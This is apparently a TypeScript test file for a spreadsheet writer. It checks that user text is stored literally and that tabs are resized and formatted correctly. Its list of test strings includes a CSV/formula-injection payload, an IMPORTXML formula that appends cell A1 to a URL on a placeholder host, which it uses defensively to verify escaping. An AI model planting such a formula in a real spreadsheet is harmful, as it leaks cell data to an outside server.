import { beforeEach, describe, expect, it } from 'vitest';
import { Runtime } from '../../src/local/apps-script/runtime';
import { createSpreadsheetApp } from '../../src/local/apps-script/spreadsheet';
import type { Cell, SheetTable } from '../../src/render/sheetTable';
import { cellText, isTextCell, textCell } from '../../src/render/sheetTable';
import { buildViews } from '../../src/render/views';
import { readSheetRows, writeSheetTable } from '../../src/workspace/sheetWriter';
import { caseView } from '../render/views.fixture';

type Spreadsheet = GoogleAppsScript.Spreadsheet.Spreadsheet;

/** Strings that a spreadsheet would turn into a formula, number, date or boolean if typed. */
const NAUGHTY = [
  '=IMPORTXML("https://x/?"&A1,"//a")',
  '=1+1',
  ' =1+1',
  '\r\n=1+1',
  '＝1+1',
  '+31 6 12345678',
  '+31612345678',
  '-',
  '-1',
  '@naam',
  '\tx',
  '0612345678',
  '007',
  '1/2',
  '31-1-2024',
  '2024-01-31',
  '2024-13-45',
  '10:30',
  '50%',
  '$2.99',
  '1,000',
  'NaN',
  'true',
  'FALSE',
  "'begint met een apostrof",
  '🙂👍🏽 emoji',
  'مرحبا بالعالم',
  '{{naam}}',
  'regel 1\nregel 2',
];

function table(name: string, rows: Cell[][], extra: Partial<SheetTable> = {}): SheetTable {
  return { name, rows, frozenRows: 1, ...extra };
}

let rt: Runtime;
let ss: Spreadsheet;

beforeEach(() => {
  rt = new Runtime({ latency: false });
  const app = createSpreadsheetApp(rt) as unknown as GoogleAppsScript.Spreadsheet.SpreadsheetApp;
  ss = app.create('Casus voorbeeld');
  rt.resetCounts();
});

function sheet(name: string): GoogleAppsScript.Spreadsheet.Sheet {
  const s = ss.getSheetByName(name);
  if (!s) throw new Error(`tab ${name} ontbreekt`);
  return s;
}

describe('writeSheetTable', () => {
  it('§4.3 #6, #37: houdt elke gebruikerstekst letterlijk als tekst: geen formule, geen getal, geen datum', () => {
    const rows: Cell[][] = [['Nr', 'Tekst'], ...NAUGHTY.map((s, i) => [i + 1, textCell(s)])];
    writeSheetTable(ss, table('Test', rows));
    const range = sheet('Test').getRange(2, 1, NAUGHTY.length, 2);
    const values = range.getValues();
    expect(values.map((r) => r[1])).toEqual(NAUGHTY);
    expect(values.map((r) => r[0])).toEqual(NAUGHTY.map((_, i) => i + 1));
    expect(
      range
        .getFormulas()
        .flat()
        .every((f) => f === ''),
    ).toBe(true);
    expect(
      sheet('Test')
        .getRange(1, 1, rows.length, 2)
        .getFormulas()
        .flat()
        .every((f) => f === ''),
    ).toBe(true);
  });

  it('schrijft getallen, waarheidswaarden, datums en lege tekst met hun eigen type', () => {
    const when = new Date(Date.UTC(2026, 0, 12, 9, 30));
    writeSheetTable(
      ss,
      table('Types', [
        ['Getal', 'Ja/nee', 'Datum', 'Leeg'],
        [3.5, true, when, textCell('')],
      ]),
    );
    const [row] = sheet('Types').getRange(2, 1, 1, 4).getValues();
    expect(row![0]).toBe(3.5);
    expect(row![1]).toBe(true);
    expect((row![2] as Date).getTime()).toBe(when.getTime());
    expect(row![3]).toBe('');
  });

  it('weigert eigen labels die als formule of getal gelezen zouden worden, vóór elke aanroep', () => {
    for (const label of ['=SUM(1)', '+1', '-', '@x', '12', '16-01', '1/2', 'true']) {
      rt.resetCounts();
      expect(() => writeSheetTable(ss, table('Fout', [['Kop'], [label]]))).toThrow(/Interne fout/);
      expect(rt.totalCalls()).toBe(0);
    }
    expect(() => writeSheetTable(ss, table('Scheef', [['a', 'b'], ['c']]))).toThrow(/niet rechthoekig/);
  });

  it('kort een tekst boven de limiet van een cel in met een melding', () => {
    const long = 'x'.repeat(60_000);
    writeSheetTable(ss, table('Lang', [['Kop'], [textCell(long)]]));
    const v = String(sheet('Lang').getRange(2, 1).getValue());
    expect(v.length).toBeLessThanOrEqual(50_000);
    expect(v).toMatch(/ingekort/);
  });

  it('laat na herschrijven met een kleinere tabel geen oude rijen, kolommen of opmaak achter', () => {
    const big: Cell[][] = [
      ['A', 'B', 'C', 'D'],
      ...Array.from({ length: 60 }, (_, i) => [i, textCell(`r${i}`), 'x', 'y']),
    ];
    writeSheetTable(
      ss,
      table('Wissel', big, {
        boldRows: [0, 5],
        backgrounds: big.map((r) => r.map(() => '#f4cccc')),
        frozenColumns: 2,
      }),
    );
    writeSheetTable(
      ss,
      table('Wissel', [
        ['Kop', 'Waarde'],
        ['a', textCell('b')],
      ]),
    );
    const s = sheet('Wissel');
    expect(readSheetRows(ss, 'Wissel')).toEqual([
      ['Kop', 'Waarde'],
      ['a', 'b'],
    ]);
    expect(s.getMaxRows()).toBe(2);
    expect(s.getMaxColumns()).toBe(2);
    expect(s.getFrozenRows()).toBe(1);
    expect(s.getFrozenColumns()).toBe(0);
    expect(s.getRange(2, 1).getFontWeight()).toBe('normal');
    expect(s.getRange(2, 1).getBackground()).toBe('#ffffff');
  });

  it('vergroot het raster als de tabel groter is dan het blad', () => {
    writeSheetTable(ss, table('Groei', [['Kop'], ['a']]));
    const rows: Cell[][] = [
      Array.from({ length: 40 }, (_, i) => `Kolom ${i + 1}`),
      ...Array.from({ length: 1500 }, (_, r) => Array.from({ length: 40 }, (_, c) => r * 40 + c)),
    ];
    writeSheetTable(ss, table('Groei', rows));
    const s = sheet('Groei');
    expect(s.getMaxRows()).toBe(1501);
    expect(s.getMaxColumns()).toBe(40);
    expect(s.getRange(1501, 40).getValue()).toBe(1499 * 40 + 39);
  });

  it('zet vastgezette rijen en kolommen, kolombreedtes, tabkleur, vet, notities en verbergen', () => {
    writeSheetTable(
      ss,
      table(
        'Opmaak',
        [
          ['Kop', 'Tweede', 'Derde'],
          [1, 2, 3],
        ],
        {
          frozenRows: 1,
          frozenColumns: 1,
          boldRows: [0],
          backgrounds: [
            ['#d9e2f3', '#d9e2f3', '#d9e2f3'],
            [null, '#d9ead3', null],
          ],
          fontColors: [
            [null, null, null],
            [null, null, '#777777'],
          ],
          columnWidths: [120, 300, 300],
          notes: [{ row: 1, column: 2, note: 'Toelichting' }],
          tabColor: '#cc0000',
          hidden: true,
        },
      ),
      { position: 0 },
    );
    const s = sheet('Opmaak');
    expect(s.getIndex()).toBe(1);
    expect(s.getFrozenRows()).toBe(1);
    expect(s.getFrozenColumns()).toBe(1);
    expect(s.getColumnWidth(1)).toBe(120);
    expect(s.getColumnWidth(3)).toBe(300);
    expect(s.getTabColor()).toBe('#cc0000');
    expect(s.isSheetHidden()).toBe(true);
    expect(s.getRange(1, 2).getFontWeight()).toBe('bold');
    expect(s.getRange(2, 2).getFontWeight()).toBe('normal');
    expect(s.getRange(2, 2).getBackground()).toBe('#d9ead3');
    expect(s.getRange(2, 3).getFontColor()).toBe('#777777');
    expect(s.getRange(2, 3).getNote()).toBe('Toelichting');
    // A rewrite without those settings resets them.
    writeSheetTable(ss, table('Opmaak', [['Kop'], [1]]));
    expect(s.isSheetHidden()).toBe(false);
    expect(s.getFrozenColumns()).toBe(0);
  });

  it('gebruikt per tab een vast, klein aantal aanroepen, onafhankelijk van het aantal rijen', () => {
    const make = (n: number): SheetTable =>
      table(
        'Teller',
        [['Nr', 'Tekst'], ...Array.from({ length: n }, (_, i) => [i, textCell(`antwoord ${i}`)])],
        {
          boldRows: [0],
          backgrounds: Array.from({ length: n + 1 }, () => ['#ffffff', null]),
          columnWidths: [80, 300],
        },
      );
    writeSheetTable(ss, make(5));
    const counts = (n: number): Map<string, number> => {
      rt.resetCounts();
      writeSheetTable(ss, make(n));
      return new Map(rt.counts);
    };
    // Same grid size as before: no resize calls.
    const small = counts(5);
    expect(small.get('Range.setValues')).toBe(1);
    expect(small.get('Range.setBackgrounds')).toBe(1);
    expect(small.get('Range.setFontWeights')).toBe(1);
    expect(small.get('Sheet.setColumnWidths')).toBeUndefined();
    const total = rt.totalCalls();
    expect(total).toBeLessThanOrEqual(12);
    const large = counts(2000);
    expect(large.get('Range.setValues')).toBe(1);
    expect(rt.totalCalls()).toBeLessThanOrEqual(total + 1); // + one insertRowsAfter
  });
  it('houdt bij herschrijven in dezelfde vorm de kolombreedtes die de regisseur zelf instelde', () => {
    const t = table(
      'Breed',
      [
        ['Kop', 'Tekst'],
        [1, textCell('a')],
      ],
      { columnWidths: [80, 300] },
    );
    writeSheetTable(ss, t);
    expect(sheet('Breed').getColumnWidth(2)).toBe(300);
    sheet('Breed').setColumnWidth(2, 500);
    writeSheetTable(ss, t);
    expect(sheet('Breed').getColumnWidth(2)).toBe(500);
    // A new column count applies the widths of the table again.
    writeSheetTable(ss, table('Breed', [['Kop', 'Tekst', 'Extra']], { columnWidths: [80, 300, 120] }));
    expect(sheet('Breed').getColumnWidth(2)).toBe(300);
    expect(sheet('Breed').getColumnWidth(3)).toBe(120);
  });
});

describe('readSheetRows', () => {
  it('geeft null voor een ontbrekende tab, [] voor een lege tab en anders de waarden', () => {
    expect(readSheetRows(ss, 'Bestaat niet')).toBeNull();
    ss.insertSheet('Leeg');
    expect(readSheetRows(ss, 'Leeg')).toEqual([]);
    writeSheetTable(
      ss,
      table('Vol', [
        ['Kop', 'Waarde'],
        [textCell('007'), 7],
      ]),
    );
    expect(readSheetRows(ss, 'Vol')).toEqual([
      ['Kop', 'Waarde'],
      ['007', 7],
    ]);
  });
});

describe('alle view-tabs van een casus', () => {
  it('schrijft elke tab met één setValues en laat geen formules ontstaan', () => {
    const tables = buildViews(caseView());
    tables.forEach((t, i) => {
      writeSheetTable(ss, t, { position: i });
    });
    expect(rt.counts.get('Range.setValues')).toBe(tables.length);
    expect(
      ss
        .getSheets()
        .slice(0, tables.length)
        .map((s) => s.getName()),
    ).toEqual(tables.map((t) => t.name));
    for (const t of tables) {
      const range = sheet(t.name).getRange(1, 1, t.rows.length, t.rows[0]!.length);
      expect(
        range
          .getFormulas()
          .flat()
          .every((f) => f === ''),
        t.name,
      ).toBe(true);
      const values = range.getValues();
      t.rows.forEach((row, r) => {
        row.forEach((c, col) => {
          if (isTextCell(c)) expect(values[r]![col], `${t.name} ${r},${col}`).toBe(cellText(c));
        });
      });
    }
  });
});
